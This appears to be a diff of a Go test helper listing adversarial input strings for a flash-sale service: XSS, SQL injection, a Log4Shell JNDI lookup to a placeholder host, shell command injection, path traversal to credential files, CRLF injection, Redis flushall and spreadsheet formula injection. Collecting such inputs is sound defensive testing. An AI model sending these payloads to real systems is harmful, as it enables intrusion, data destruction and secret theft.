@@ -32,7 +32,7 @@ func acceptedNames() []string {
 		hx-get="/x" hx-on::load=alert(1) data-testid="buy-now-button" id="status"
 		%s%s%s%n %d %!x(missing) %v %% %00 %0d%0aset-cookie:x %2e%2e%2f %c0%ae {} {0} {name}
 		'or'1'='1 ';drop table users;-- '; -- $1 $$ e'\\x27' \' \\ robert');-- null nil true false nan undefined none 0 -1 1e309 0x1f nul con
-		flushall {sale:1} flashsale:{1:1}:holders *1 $8 get * ? [a-z]* redis.call('x') return eval
+		flushall {sale:1} flashsale:{1:1}:holders *1 $8 get * ? [a-z]* redis.Call('x') return eval
 		{{.}} ${jndi:ldap://x/a} $(id) |id &&id %27 &quot; \u003cscript\u003e \x3cscript> !import url(x) <!entity waitfor pg_sleep(9) hgetall evalsha
 		../../etc/passwd .. . / // a/b a\b c:\windows ~root .env .git/config ?x=1 # a?check=1 a#b a;b a&username=b a=b a+b index.html /api/flash-sale/reset
 		=cmd|'/c;calc'!a1 =1+1 +1+1 -1+1 =hyperlink("http://x","y") "a,b" a,b
